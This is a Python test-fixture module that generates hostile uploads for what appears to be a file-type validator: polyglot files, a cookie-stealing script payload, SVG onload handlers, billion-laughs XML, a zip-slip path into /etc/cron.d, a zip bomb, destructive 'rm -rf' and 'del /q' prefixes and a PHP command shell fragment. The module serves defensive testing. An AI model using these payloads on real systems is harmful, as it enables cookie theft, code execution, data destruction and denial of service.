"""Files that are two things at once, or not what they say."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.support.hostile.cases import (
    GIF,
    JPEG,
    MISMATCH,
    NOT_ALLOWED,
    PDF,
    PNG,
    THUMBNAIL,
    TIFF,
    UNDECODABLE,
    WEBP,
    Case,
    page,
    pdf,
    png_chunk,
    png_head,
    refused,
)
from tests.support.rendering import plain

OCTETS = "application/octet-stream"
SCRIPT = b"<script>fetch('http://127.0.0.1:1/'+document.cookie)</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]><l>&a11;</l>"
)


def a_zip(size: int = 1 << 20, name: str = "../../../../etc/cron.d/x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, bytes(size))
    return out.getvalue()


def two_in_one(whole: dict[str, bytes]) -> dict[bytes, tuple[bytes, str]]:
    """Files that are whole as what is declared and as what their names say."""
    jar = a_zip(64, "META-INF/MANIFEST.MF")
    page_of = b"<!--" + SCRIPT + b"-->"
    comment = b"\xff\xfe" + struct.pack(">H", 2 + len(SCRIPT)) + SCRIPT
    return {
        b"facture.scr": (whole[PDF], PDF),
        b"a.html": (whole[PDF] + page_of, PDF),
        b"x.hta": (whole[PDF].replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<script>x()</script>\n"), PDF),
        b"x.jar": (whole[PDF] + jar, PDF),
        b"gifar.jar": (whole[GIF] + jar, GIF),
        b"photo.php": (whole[JPEG][:2] + comment + whole[JPEG][2:], JPEG),
        b"photo.jpg.js": (whole[JPEG], JPEG),
        b"picture.svg": (whole[PNG] + SVG, PNG),
        b"picture.html": (png_head(1, 1) + png_chunk(b"tEXt", b"Comment\0" + SCRIPT) + whole[PNG][33:], PNG),
        b"x.zip": (whole[WEBP] + a_zip(64), WEBP),
        b"x.exe": (whole[TIFF] + b"MZ" + bytes(512), TIFF),
        b"x.pdf.lnk": (whole[PDF], PDF),
        b"x.hta. . ": (whole[PDF], PDF),
        b"x.settingcontent-ms": (whole[PDF], PDF),
    }


def _end_of(text: bytes) -> str:
    """Of a text of which nothing is declared: what begins as a PDF is measured by how it ends."""
    return MISMATCH if text.startswith(b"%PDF") else NOT_ALLOWED


def a_stored_zip(content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("x.pdf", content)
    return out.getvalue()


#: A whole PDF follows, within the first 1,024 bytes: run, opened or shown as what it begins with, it is that.
BEFORE_A_PDF = {
    "a DOS program": b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0",
    "a blank and a DOS program": b"\r\nMZ" + bytes(58),
    "an ELF program": b"\x7fELF\2\1\1" + bytes(57),
    "a shell script": b"#!/bin/sh\nrm -rf ~ # ",
    "a batch file": b"@echo off\r\ndel /q *\r\nrem ",
    "a quiet batch file": b":: x\r\ndel /q *\r\nexit\r\n",
    "HTML": b"<html><body>",
    "HTML in a comment": b"<!-- ",
    "HTML behind a warning": b"<br />\n<b>Warning</b>: x\n" + SCRIPT,
    "HTML of UTF-16": "\ufeff<script>x()</script>".encode("utf-16-le"),
    "a picture with a handler": b"<b onmouseover=alert(1)>Warning</b>: x\n",
    "SVG": SVG,
    "XML": b'<?xml version="1.0"?>\n<a>',
    "PHP": b"<?php system($_GET[0]); /* ",
    "JavaScript": b"/*",
    "JavaScript in a template": b"var x = `",
    "VBScript": b'Dim x\r\nCreateObject("WScript.Shell").Run "calc"\r\n\'',
    "PowerShell": b"<# ",
    "Python": b"import os\nos.system(\"x\")\nx = r'''",
    "a mail": b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: application/pdf\r\n\r\n",
    "PostScript": b"%!PS-Adobe-3.0\n",
    "RTF": b"{\\rtf1 ",
    "a GIF": b"GIF89a\1\0\1\0\0\0\0;",
    "a printer's command and a script": b"\x1b%-12345X@PJL\r\n" + SCRIPT,
}

#: Texts that name the header of a PDF, and are none.
NAMES_A_PDF = {
    "html": b"<html><body>%PDF-1.7</body></html>",
    "batch file": b"@echo off\r\nrem %PDF-\r\ndel /q *\r\n",
    "csv": b"name;begins with\r\nPDF;%PDF-1.7\r\n",
    "mail": b"From: a@b.example\r\nTo: c@d.example\r\nSubject: %PDF-1.4\r\n\r\n%PDF-1.4 1 0 obj\r\n%%EOF\r\n",
    "text that begins so": b"%PDF-1.7 is how a PDF begins; a trailer and %%EOF is how it ends.\n",
    "script that begins so": b"%PDF-1.7\n%%EOF\n" + SCRIPT,
}

#: What stands before real ones.
FROM_THE_FIELD = {
    "line ends": b"\r\n\n",
    "a byte order mark": b"\xef\xbb\xbf",
    "zeros": bytes(512),
    "printer commands": b'\x1b%-12345X@PJL JOB NAME="x"\r\n@PJL SET DUPLEX=ON\r\n@PJL ENTER LANGUAGE=PDF\r\n',
    "a warning of PHP": b"<br />\n<b>Warning</b>:  Undefined variable $a in <b>/srv/a.php</b> on line <b>3</b><br />\n",
    "a warning of PHP in text": b"PHP Notice:  Undefined index: x in /srv/www/print.php on line 12\n",
    "a warning of Perl": b"Use of uninitialized value $x in concatenation (.) or string at print.pl line 3.\n",
    "headers of HTTP": b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nServer: x\r\n\r\n",
    "MacBinary": b"\0\x05a.pdf" + bytes(58) + b"PDF CARO" + bytes(55),
    "a part of a form": b'--X\r\nContent-Disposition: form-data; name="f"\r\n\r\n',
    "bytes of no meaning": bytes(range(128, 192)) + b"\n",
    "1,023 bytes": b"x" * 1022 + b"\n",
}


def _pdfs_in_company(paper: bytes) -> Iterator[Case]:
    for name, front in BEFORE_A_PDF.items():
        yield Case(f"pdf with {name} before it", lambda f=front: f + paper, PDF, MISMATCH)
    for name, text in NAMES_A_PDF.items():
        yield Case(f"{name} that names a pdf", lambda t=text: t, PDF, MISMATCH)
        yield Case(f"{name} that names a pdf and says nothing", lambda t=text: t, OCTETS, _end_of(text))
    for name, front in FROM_THE_FIELD.items():
        yield Case(f"pdf behind {name}", lambda f=front: f + paper, PDF, THUMBNAIL)


def cases() -> Iterator[Case]:
    paper = pdf(page())
    whole = {PDF: paper, PNG: plain("PNG"), JPEG: plain(), GIF: plain("GIF"), TIFF: plain("TIFF"), WEBP: plain("WEBP")}
    tails = {"zip": a_zip(), "script": SCRIPT, "pdf": paper, "program": b"MZ" + bytes(4096), "zeros": bytes(3 << 20)}
    for mime_type, content in whole.items():
        for what, tail in tails.items():
            yield Case(f"{mime_type} with a {what} behind it", lambda c=content, t=tail: c + t, mime_type)
        for other in whole:
            if other != mime_type:
                yield Case(f"{mime_type} that says it is {other}", lambda c=content: c, other, MISMATCH)
    strangers = {
        "zip": a_zip(),
        "zip of 62 MB of zeros": None,
        "svg": SVG,
        "html": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
        "xml of a billion laughs": LAUGHS,
        "ELF": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0" + bytes(512),
        "DOS program": b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(512),
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n/x { x } def x\n",
        "PSD": b"8BPS\0\1" + bytes(600),
        "ICO": b"\0\0\1\0\1\0\xff\xff\0\0\1\0\x20\0" + bytes(64),
        "BMP": b"BM"
        + bytes(4)
        + bytes(4)
        + b"\x36\0\0\0\x28\0\0\0"
        + b"\xff\xff\xff\x7f" * 2
        + b"\1\0\x18\0"
        + bytes(64),
        "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200),
        "text": b"just words\n" * 50,
    }
    for name, found in strangers.items():

        def make(found: bytes | None = found) -> bytes:
            return a_zip(62_000_000) if found is None else found

        yield Case(f"{name} that says it is a pdf", make, PDF, MISMATCH)
        yield Case(f"{name} that says nothing", make, OCTETS, NOT_ALLOWED)
    yield Case("pdf header 900 bytes into a script", lambda: SCRIPT + b" " * 900 + paper, PDF, MISMATCH)
    yield Case("png that is a pdf further on", lambda: whole[PNG][:33] + paper, PNG, UNDECODABLE)
    yield Case("gif that is a script", lambda: b"GIF89a=1/*" + SCRIPT + b"*/;", GIF)
    yield Case("pdf header alone before a program", lambda: b"%PDF-1.7\nMZ" + bytes(4096), PDF, MISMATCH)
    yield Case("pdf of zeros", lambda: b"%PDF-1.7\n" + bytes(4 << 20), PDF, MISMATCH)
    yield from _pdfs_in_company(paper)
    for name, (content, mime_type) in two_in_one(whole).items():
        yield Case(f"{name.decode()} that is also {mime_type}", lambda c=content: c, mime_type, THUMBNAIL, name)
    yield Case("pdf in a stored zip", lambda: a_stored_zip(paper), PDF, MISMATCH)
    yield Case("pdf with 100 KB of script behind it", lambda: paper + SCRIPT * 2000, PDF, MISMATCH)
    yield Case("nothing", lambda: b"", PDF, refused("file_empty"))
    yield Case("one byte", lambda: b"%", PDF, MISMATCH)
    yield Case("a media type of nothing", lambda: paper, "", THUMBNAIL)
    yield Case("a media type of noise", lambda: paper, "////;;;=", MISMATCH)
    yield Case("a media type with parameters", lambda: paper, 'application/pdf; a="' + "b" * 2000 + '"', THUMBNAIL)
